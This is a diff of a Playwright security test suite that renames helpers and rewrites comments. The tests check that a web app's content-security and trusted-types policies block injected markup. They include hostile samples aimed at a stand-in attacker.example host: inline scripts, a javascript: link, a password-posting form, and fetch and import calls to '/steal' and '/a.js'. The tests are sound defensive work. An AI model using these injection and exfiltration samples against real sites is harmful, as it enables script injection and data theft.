@@ -9,8 +9,8 @@ import { expect, overrideConfig, servePolicy, test } from './fixtures.ts'
 
 const attacker = 'https://attacker.example'
 
-/** A site that answers everything to everybody; tells what it was asked for. */
-async function openAttacker(page: Page) {
+/** Route the attacker's origin to a server that allows every request. Returns the list of requested URLs. */
+async function routeAttacker(page: Page) {
   const attackerRequests: string[] = []
   await page.context().route(`${attacker}/**`, (route) => {
     attackerRequests.push(route.request().url())
@@ -19,20 +19,20 @@ async function openAttacker(page: Page) {
   return attackerRequests
 }
 
-/** Which directives the browser enforced so far; the page has to be opened after it. */
-async function listen(page: Page) {
+/** Record the directives that the browser enforces in pages that are opened from now on. The returned function reads them. */
+async function recordViolations(page: Page) {
   await page.addInitScript(() => {
     const violations: string[] = []
-    Object.assign(window, { seen: violations })
+    Object.assign(window, { violations })
     addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective))
   })
-  return () => page.evaluate(() => [...new Set((window as unknown as { seen: string[] }).seen)].sort())
+  return () => page.evaluate(() => [...new Set((window as unknown as { violations: string[] }).violations)].sort())
 }
 
-const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string }).ran ?? 'nothing')
+const readExecuted = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string }).ran ?? 'nothing')
 
-/** Markup as an attacker would have it in a page, with whatever runs, looks, loads or sends by itself. */
-const injected = `
+/** Hostile markup: scripts, handlers, styles, frames, media and forms that run, load or send without a user action. */
+const injectedMarkup = `
   <base href="${attacker}/">
   <script>window.ran = 'an inline script'</script>
   <script type="module">window.ran = 'an inline module'</script>
@@ -50,8 +50,8 @@ const injected = `
   <a id="link" href="javascript:window.ran = 'a javascript: link'">Free pizza</a>
   <form id="form" action="${attacker}/form" method="post"><input name="password" value="secret"></form>`
 
-/** What stops each of them. */
-const enforced = [
+/** The directives that block the hostile markup. */
+const enforcedDirectives = [
   ...['base-uri', 'form-action', 'frame-src', 'img-src', 'media-src', 'object-src'],
   ...['script-src-attr', 'script-src-elem', 'style-src-attr', 'style-src-elem'],
 ]
@@ -61,30 +61,30 @@ const pages = ['/', '/lounge', '/graphql', '/api/docs']
 for (const path of pages)
   test(`injected markup in ${path} cannot run, restyle, frame or exfiltrate`, async ({ page, expectError }) => {
     expectError(/./)
-    const attackerRequests = await openAttacker(page)
-    const violated = await listen(page)
-    // The page alone: the sandbox asks its own address for data, too.
+    const attackerRequests = await routeAttacker(page)
+    const readViolations = await recordViolations(page)
+    // Only the document: the sandbox also sends its queries to the same path.
     const inject = async (route: Route) => {
       const response = await route.fetch()
-      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injected}</body>`) })
+      await route.fulfill({ response, body: (await response.text()).replace('</body>', `${injectedMarkup}</body>`) })
     }
     await page.route(path, inject, { times: 1 })
     await page.goto(path)
     await page.evaluate(() => document.getElementById('link')?.click())
     await page.evaluate(() => (document.getElementById('form') as HTMLFormElement).submit())
-    await expect.poll(() => violated()).toEqual(enforced)
-    expect(await ran(page)).toBe('nothing')
+    await expect.poll(() => readViolations()).toEqual(enforcedDirectives)
+    expect(await readExecuted(page)).toBe('nothing')
     const readStyles = () => [getComputedStyle(document.body).outlineStyle, getComputedStyle(document.getElementById('styled') ?? document.body).position]
     expect(await page.evaluate(readStyles)).toEqual(['none', 'static'])
     expect(attackerRequests).toEqual([])
   })
 
-/** What a script could do with a text that it should not have taken for markup, code or an address. */
-const attempts = (site: string) =>
+/** Try to use text as markup, code or URL in every way a script can. Resolves with the name of the error of each attempt. */
+const attemptInjections = (site: string) =>
   new Promise<Record<string, string>>((done) => {
     const script = () => document.body.appendChild(document.createElement('script'))
     const cases: Record<string, () => unknown> = {
-      // biome-ignore lint/security/noGlobalEval: whether it runs is the question
+      // biome-ignore lint/security/noGlobalEval: the test checks that it is blocked
       eval: () => window.eval('window.ran = "eval"'),
       Function: () => new Function('window.ran = "Function"')(),
       innerHTML: () => {
@@ -113,13 +113,13 @@ const attempts = (site: string) =>
       fetch: () => fetch(`${site}/steal`),
       import: () => import(`${site}/a.js`),
     }
-    // In a task of its own: what runs while the test's own script is evaluated may use eval.
+    // In a separate task: code that runs while Playwright evaluates its script may use eval.
     setTimeout(async () => {
       const outcome: Record<string, string> = {}
       for (const [name, attempt] of Object.entries(cases)) {
         try {
           await attempt()
-          outcome[name] = 'went through'
+          outcome[name] = 'succeeded'
         } catch (error) {
           outcome[name] = (error as Error).name
         }
@@ -130,23 +130,23 @@ const attempts = (site: string) =>
 
 test('the app never inserts text as markup or code, and connects to no other origin', async ({ page, expectError }) => {
   expectError(/./)
-  const attackerRequests = await openAttacker(page)
+  const attackerRequests = await routeAttacker(page)
   await page.goto('/lounge')
   await expect(page.getByRole('article').first()).toBeVisible()
-  const outcome = await page.evaluate(attempts, attacker)
+  const outcome = await page.evaluate(attemptInjections, attacker)
   expect(outcome).toEqual({
     ...Object.fromEntries(Object.keys(outcome).map((name) => [name, 'TypeError'])),
     eval: 'EvalError',
     Function: 'EvalError',
   })
   expect(Object.keys(outcome)).toHaveLength(17)
-  expect(await ran(page)).toBe('nothing')
+  expect(await readExecuted(page)).toBe('nothing')
   expect(attackerRequests).toEqual([])
   await expect(page.getByRole('article').first()).toBeVisible()
 })
 
 test('user markup is sanitized or refused on every page', async ({ page, expectError }) => {
-  // The browser reports a blocked handler wherever markup is parsed, in documents without a window too.
+  // The browser reports blocked event handlers wherever markup is parsed, even in documents without a window.
   expectError(/Executing inline event handler violates/)
   expectError(/TrustedHTML|Trusted Type/)
   const hostile = '<p>plain</p><img src="data:," onerror="window.ran = 1"><a href="javascript:x">link</a>'
@@ -170,9 +170,9 @@ test('user markup is sanitized or refused on every page', async ({ page, expectE
     new Image().src = '/icon.png?after-cleaning'
   })
   await cleaned
-  // A live document loads an image as soon as it is parsed, whether it is shown or not.
+  // A document with a window loads an image as soon as it is parsed, even if it is not displayed.
   expect(loaded).not.toContain('?while-cleaning')
-  expect(await ran(page)).toBe('nothing')
+  expect(await readExecuted(page)).toBe('nothing')
   await page.goto('/api/docs')
   await expect(page.locator('.opblock').first()).toBeVisible()
   expect(await page.evaluate(renderHtml, hostile)).toBe('TypeError')
@@ -181,7 +181,7 @@ test('user markup is sanitized or refused on every page', async ({ page, expectE
 
 test('the app cannot be framed', async ({ page, expectError, baseURL }) => {
   expectError(/frame/i)
-  // A real site, since the browser keeps what is only made up from this machine's own addresses.
+  // A real server: the browser does not let a page of a routed, fictitious origin frame local addresses.
   const site = createServer((request, response) => {
     const framed = new URL(request.url ?? '', 'http://site').searchParams.get('frame')
     response.setHeader('Content-Type', 'text/html').end(framed ? `<iframe src="${framed}"></iframe>` : 'unguarded')
@@ -200,11 +200,11 @@ test('the app cannot be framed', async ({ page, expectError, baseURL }) => {
 
 test("only the provider's popup may load its script", async ({ page, expectError }) => {
   expectError(/./)
-  const attackerRequests = await openAttacker(page)
+  const attackerRequests = await routeAttacker(page)
   const project = { NODE_ENV: 'development', FIREBASE_PROJECT_ID: 'demo-thinnai', FIREBASE_API_KEY: 'demo-key', GOOGLE_SIGN_IN: 'on' }
   await overrideConfig(page, { googleSignIn: true })
   await servePolicy(page, '/login', createBrowserConfig(readConfig(project), new URL(emulatorUrl).host).policies.app)
-  // As the real one does, it has a policy of its own by which it loads the next.
+  // Like the real script, it has a trusted-types policy of its own to load the next one.
   const first = `const { createScriptURL } = { createScriptURL: (url) => url }
     const own = trustedTypes.createPolicy('gapi#gapi', { createScriptURL })
     const next = document.createElement('script')
@@ -215,15 +215,15 @@ test("only the provider's popup may load its script", async ({ page, expectError
   )
   await page.goto('/login')
   await page.getByRole('button', { name: 'Continue with Google' }).click()
-  await expect.poll(() => ran(page)).toBe('the second script')
-  const refused = await page.evaluate((url) => {
+  await expect.poll(() => readExecuted(page)).toBe('the second script')
+  const result = await page.evaluate((url) => {
     try {
       document.createElement('script').src = url
-      return 'taken'
+      return 'accepted'
     } catch (error) {
       return (error as Error).name
     }
   }, `${attacker}/a.js`)
-  expect(refused).not.toBe('taken')
+  expect(result).not.toBe('accepted')
   expect(attackerRequests).toEqual([])
 })
